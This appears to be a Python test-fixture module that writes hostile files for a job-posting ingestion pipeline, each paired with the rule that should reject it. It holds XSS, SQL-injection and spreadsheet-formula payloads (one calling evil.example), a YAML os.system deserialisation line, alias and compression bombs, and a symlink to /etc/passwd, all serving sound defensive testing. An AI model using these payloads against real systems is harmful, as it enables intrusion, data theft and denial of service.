"""Files that a warehouse must survive: written small, beside good ones, for tests.

Here: what each is and the rule by which it is rejected, or null where its records are used. Not here: what
must be true of a build over them (`tests/pipeline/test_hostile_files.py`).
"""

import gzip
import io
import json
import os
import socket
import zipfile
from collections.abc import Callable
from pathlib import Path

TEXT = "You build and run the pipelines that bring our data from ships to shore, in Python and SQL, with a small team."
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
INJECTION = "'; drop table marts.fct_posting; --"
RTL = "\u202egnireenigne atad\u202c"


def posting(job_id: object, title: str = "Data Engineer", company: str = "Nordlicht", text: str = TEXT) -> bytes:
    """A YAML posting with these words, quoted as JSON (which YAML reads)."""
    fields = {"job_id": str(job_id), "title": title, "company": company, "location": "Rome", "description": text}
    return "".join(f"{key}: {json.dumps(value)}\n" for key, value in fields.items()).encode()


def page(job_id: int, title: str, company: str, text: str) -> bytes:
    """A saved page with these words in its JobPosting."""
    properties = {
        "@type": "JobPosting", "identifier": {"value": str(job_id)}, "title": title,
        "hiringOrganization": {"name": company}, "description": text, "datePosted": "2026-02-01",
    }  # fmt: skip
    script = json.dumps(properties).replace("</", "<\\/")
    return f"<!doctype html><html><script type='application/ld+json'>{script}</script></html>".encode()


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("posting.yaml", b"title: a\n" + b"a" * 50_000_000)
    return buffer.getvalue()


def _aliases() -> bytes:
    """Nine lines that are a billion words when written out."""
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)]
    return "\n".join(["title: Data Engineer", "company: Nordlicht", "job_id: 21", *lines, "skills: *i", ""]).encode()


# Name, content, the rule that rejects it (null: it is read).
FILES: list[tuple[str, bytes, str | None]] = [
    ("good.yaml", posting(1), None),
    ("script.yaml", posting(2, f"Engineer {SCRIPT}", SCRIPT, f"{TEXT} {SCRIPT}"), None),
    ("formula.yaml", posting(3, FORMULA, "+cmd|' /C calc'!A0", f"@SUM(A1) {TEXT}"), None),
    ("injection.yaml", posting(4, INJECTION, INJECTION, f"{TEXT} {INJECTION}"), None),
    ("rtl.yaml", posting(5, f"Data {RTL} Engineer"), None),
    ("long-title.yaml", posting(6, "Engineer " * 1_200), None),
    ("nul.yaml", b"job_id: 7\ntitle: Data\0 Engineer\ncompany: N\ndescription: |\n  " + TEXT.encode() + b"\0\n", None),
    ("surrogate.html", page(8, "Data \ud800 Engineer", "N \udfff", TEXT + " \ud83d"), None),
    ("script.html", page(9, SCRIPT, SCRIPT, f"<p>{TEXT}</p>{SCRIPT}<p>{INJECTION}</p>"), None),
    ("up..\u2215..\u2215dots.yaml", posting(10), None),
    ("'; drop table x; --.yaml", posting(11), None),
    ("<script>alert(1)<\u2215script>.yaml", posting(12), None),
    ('=HYPERLINK("x").yaml', posting(13), None),
    ("line\nbreak.yaml", posting(14), None),
    ("long-text.yaml", posting(15, text=f"{TEXT} " * 3_000), None),
    ("aliases.yaml", _aliases(), "not_yaml"),
    ("python.yaml", b"title: !!python/object/apply:os.system ['touch pwned']\ncompany: N\n", "not_yaml"),
    ("deep.json", b'{"@type": "JobPosting", "a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "not_json"),
    ("digits.json", b'{"@type": "JobPosting", "title": "a", "x": ' + b"9" * 10_000 + b"}", "not_json"),
    ("bomb.gz", gzip.compress(b"a" * 50_000_000), "archive"),
    ("bomb.zip", _zip_bomb(), "archive"),
    ("empty.yaml", b"", "empty"),
    ("noise.bin", bytes(range(256)) * 40, "not_recognised"),
    ("large.html", b"<html><body>" + b"<b>" * 11_000_000 + b"</html>", "too_large"),
    (
        "columns.csv",
        b"title,company,link\nData Engineer,N,https://b.example/31\n" + b"a," * 20_000 + b"\n",
        "wrong_row",
    ),
]


def write_hostile(folder: Path) -> dict[str, str | None]:
    """Write them all into a folder, with what is no file at all; gives the rule of each name."""
    folder.mkdir(parents=True)
    expected: dict[str, str | None] = {}
    for name, content, rule in FILES:
        (folder / name).write_bytes(content)
        expected[name] = rule
    # A name whose bytes are no text.
    Path(os.fsdecode(os.fsencode(folder) + b"/bytes-\xff\xfe.yaml")).write_bytes(posting(16))
    for name, make in _not_files(folder).items():
        make(folder / name)
        expected[name] = "not_a_file"
    return expected


def _not_files(folder: Path) -> dict[str, Callable[[Path], object]]:
    return {
        "passwd.yaml": lambda path: path.symlink_to("/etc/passwd"),
        "loop": lambda path: path.symlink_to(folder, target_is_directory=True),
        "nowhere.yaml": lambda path: path.symlink_to(folder / "not-there"),
        "pipe.yaml": os.mkfifo,
        "socket.yaml": _bind,
    }


def _bind(path: Path) -> None:
    # A socket's path may have 108 bytes: bound from within its folder.
    before = Path.cwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(path.name)
    finally:
        os.chdir(before)
